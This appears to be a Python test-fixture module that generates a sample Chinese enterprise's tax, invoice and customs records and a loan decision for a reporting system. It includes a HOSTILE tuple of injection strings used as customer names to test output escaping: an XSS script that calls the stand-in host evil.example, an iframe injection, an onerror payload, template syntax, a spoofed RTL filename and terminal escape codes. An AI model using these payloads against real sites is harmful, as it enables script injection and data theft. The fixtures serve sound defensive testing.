"""Two enterprises to report on, made by hand from a seed: an ordinary one and one whose texts are hostile."""

from __future__ import annotations

import random
from hashlib import sha256

from facts_maker import SUBJECT, fact

from taxledger.ledger.fields import Value
from taxledger.ledger.kinds import KINDS
from taxledger.ledger.records import Status
from taxledger.lending.decision import Decision, FeatureValue, Reason, RuleResult
from taxledger.lending.facts import Coverage, Fact, Facts
from taxledger.lending.report import EvidenceNote

AS_OF = "2025-06-20"
MONTHS = [f"{year}-{month:02}" for year in (2023, 2024, 2025) for month in range(1, 13)][5:30]
DECIDED_MS = 1_750_402_800_000
CUSTOMERS = (
    "杭州钱塘江智能制造股份有限公司",
    "Shanghai Harbour Trading Co., Ltd.",
    "深圳市南山区前海深港现代服务业合作区创新科技发展有限责任公司",
    "苏州工业园区精密模具厂",
    "宁波北仑港物流有限公司",
    "Müller & Söhne GmbH",
    "成都天府新区软件园第七分公司",
)
HOSTILE = (
    "<script>fetch('https://evil.example/'+document.title)</script>",
    '"><img src=x onerror=alert(1)>',
    "</style></svg><iframe src=//evil.example></iframe>",
    "{{ 7*7 }}{% raw %}&lt;b&gt;",
    "invoice\u202egnp.exe\u2066\u2069\u200b",
    "\x1b[2J\x1b]0;owned\x07\x08\x08gone",
    "Z\u0301\u0302\u0303\u0304\u0305a\u0300lgo" + "W" * 300,
)


def sample_facts(customers: tuple[str, ...] = CUSTOMERS, seed: int = 7) -> Facts:
    """Twenty-four months of an enterprise, every kind of record."""
    print(f"seed {seed}")
    rng = random.Random(seed)
    facts: list[Fact] = []
    number = 0

    def add(kind: str, status: Status = Status.VALID, **fields: Value) -> None:
        nonlocal number
        number += 1
        facts.append(fact(kind, fields, number=number, status=status))

    for at, month in enumerate(MONTHS):
        for _ in range(rng.randrange(4, 12)):
            net = rng.randrange(800_000, 60_000_000) * (10 + at) // 20
            status = Status.VOIDED if rng.random() < 0.06 else Status.VALID
            net = -net // 8 if rng.random() < 0.05 else net
            add(
                "vat_invoice",
                status,
                direction="sale",
                number=f"{number:020}",
                date=f"{month}-{rng.randrange(1, 28):02}",
                counterparty=rng.choice(customers),
                currency="CNY",
                net=net,
            )
        for _ in range(rng.randrange(2, 6)):
            add(
                "vat_invoice",
                direction="purchase",
                number=f"{number:020}",
                date=f"{month}-{rng.randrange(1, 28):02}",
                counterparty=f"供应商{rng.randrange(1, 9)}",
                currency="CNY",
                net=rng.randrange(500_000, 40_000_000),
            )
        paid = rng.randrange(1_000_000, 9_000_000)
        add(
            "tax_filing",
            tax="VAT",
            period=month,
            months=1,
            number=f"F{number}",
            filed=f"{month}-18",
            due=f"{month}-{15 if at == 20 else 20}",
            currency="CNY",
            sales=paid * 30,
            payable=paid,
            paid=paid,
        )
        add(
            "utility_usage",
            utility="electricity",
            meter="M1",
            month=month,
            usage_wh=rng.randrange(20_000_000, 90_000_000),
            currency="CNY",
            amount=rng.randrange(1_500_000, 6_000_000),
            arrears=0,
        )
        add(
            "customs_declaration",
            direction="export" if at % 3 else "import",
            number=f"D{number}",
            declared=f"{month}-11",
            cleared=f"{month}-12",
            state="cleared",
            currency="CNY" if at % 5 else "USD",
            value=rng.randrange(5_000_000, 200_000_000),
        )
    for year, grade in ((2022, "M"), (2023, "B"), (2024, "A")):
        add(
            "tax_credit_rating",
            year=year,
            grade=grade,
            published=f"{year + 1}-04-20",
            authority="杭州市税务局",
        )
    add(
        "tax_arrears",
        category="arrears",
        number="Q1",
        opened="2023-09-01",
        closed="2023-10-09",
        currency="CNY",
        amount=1_250_000,
    )
    for at, buyer in enumerate(customers[:3]):
        add(
            "procurement_award",
            register="ccgp",
            number=f"A{at}",
            buyer=buyer,
            title=f"第{at + 1}批次设备采购及安装服务",
            awarded=f"2025-0{at + 1}-05",
            completes="2026-03-31",
            state="active",
            currency="CNY",
            amount=420_000_000,
            paid=60_000_000 * at,
        )
    add(
        "engineering_contract",
        number="E1",
        owner=customers[0],
        title="厂房改造",
        signed="2024-11-02",
        state="active",
        currency="CNY",
        amount=900_000_000,
        certified=450_000_000,
        paid=300_000_000,
        overdue=20_000_000,
    )
    add(
        "technology_qualification",
        category="high_tech",
        number="GR202333001234",
        title="高新技术企业证书",
        issued="2023-12-08",
        valid_until="2026-12-07",
    )
    add(
        "credit_summary",
        as_of="2025-06-01",
        lenders=0,
        loans_open=0,
        currency="CNY",
        outstanding=0,
        overdue=0,
    )
    add(
        "business_registration",
        number=SUBJECT[5:],
        name="杭州示范精密机械有限公司" if customers is CUSTOMERS else customers[0],
        legal_form="有限责任公司",
        registered="2019-03-14",
        state="active",
        currency="CNY",
        capital=1_000_000_000,
        industry="通用设备制造业",
        district="浙江省杭州市萧山区",
    )
    records: dict[int, list[Fact]] = {}
    for each in facts:
        records.setdefault(each.kind, []).append(each)
    return Facts(
        subject=SUBJECT,
        records={kind: tuple(sorted(found, key=lambda each: each.key)) for kind, found in records.items()},
        coverage={
            kind: Coverage(
                issuer=1 if kind < 6 else 6,
                from_period="2023-05",
                to_period="2025-06",
                through="2025-05-31" if kind == KINDS["vat_invoice"] else AS_OF,
                begun=True,
                erased=0,
            )
            for kind in sorted(records)
        },
    )


def sample_notes() -> tuple[EvidenceNote, ...]:
    return tuple(
        EvidenceNote(
            digest=sha256(bytes([issuer])).digest(),
            issuer=issuer,
            kinds=kinds,
            consent=bytes([issuer]) * 16,
            sequence=1,
            max_uses=3,
            origin="demo/00112233445566778899aabbccddeeff/embedded",
            height=1_204 + issuer,
            age_ms=3_400 * issuer,
        )
        for issuer, kinds in ((1, (1, 2, 3, 4, 5)), (6, (6, 7)))
    )


_RULES: tuple[tuple[str, str, str, str, int | None, str, tuple[int, ...], str], ...] = (
    ("days", "first sales invoice more than 12 months ago", "首张销项发票距今超过12个月",
     "first_sale_days", 745, "at_least", (366,), "pass"),
    ("days", "no gap of more than 90 days between sales, to as-of included",
     "近24个月销项发票最长间隔不超过90天（含距今间隔）", "sales_gap_days_24m", 21, "at_most", (90,), "pass"),
    ("months", "sales in at least 18 of the last 24 months", "近24个月中至少18个月有销售",
     "sales_months_24m", 24, "at_least", (18,), "pass"),
    ("ppm", "red letters at most 5 % of sales in 12 months", "近12个月红字金额占比不超过5%",
     "red_letter_ratio_amount_12m", 61_234, "at_most", (50_000,), "refer"),
    ("grade", "tax credit grade A, B or M", "纳税信用等级为A、B或M", "grade", 5, "one_of", (5, 4, 3), "pass"),
    ("ppm", "five largest customers at most 90 % of sales", "前五大客户销售占比不超过90%",
     "top5_share_12m", None, "at_most", (900_000,), "refuse"),
    ("money", "tax paid in 24 months at least 5,000.00", "近24个月纳税额不低于5,000元",
     "tax_paid_24m", 9_876_543_210, "at_least", (500_000,), "pass"),
)  # fmt: skip


def sample_decision(outcome: str = "refer", text: str = "") -> Decision:
    rules = tuple(
        RuleResult(
            id=feature,
            title=title + text,
            title_zh=title_zh + text,
            feature=feature,
            feature_version=1,
            unit=unit,
            value=value,
            operator=operator,
            thresholds=thresholds,
            verdict=verdict,
        )
        for unit, title, title_zh, feature, value, operator, thresholds, verdict in _RULES
    )
    return Decision(
        application="A-2025-000123" + text,
        product="invoice",
        product_version=1,
        product_digest=sha256(b"product").hexdigest(),
        scorecard_digest=sha256(b"card").hexdigest(),
        recipient=2,
        subject=SUBJECT,
        as_of=AS_OF,
        decided_ms=DECIDED_MS,
        age_ms_max=600_000,
        outcome=outcome,
        reasons=(
            Reason(code="red", text="red letters exceed 5 %" + text, text_zh="红字金额占比超过5%" + text),
        ),
        rules=rules,
        features=tuple(
            FeatureValue(id=id, version=1, unit=unit, value=value)
            for id, unit, value in (
                ("net_sales_12m", "money", 1_234_567_890),
                ("sales_gap_days_24m", "days", 21),
                ("top5_share_12m", "ppm", 876_543),
            )
        ),
        score=71,
        grade="B",
        limit=123_400_000 if outcome in ("approve", "refer") else 0,
        currency="CNY",
        rate_ppm=52_000,
        term_months=12,
        day_count=360,
        rounding="half_up",
        revolving=True,
        offer_days=7,
        security=(),
        security_ppm=0,
        evidence=tuple(each.digest.hex() for each in sample_notes()),
    )
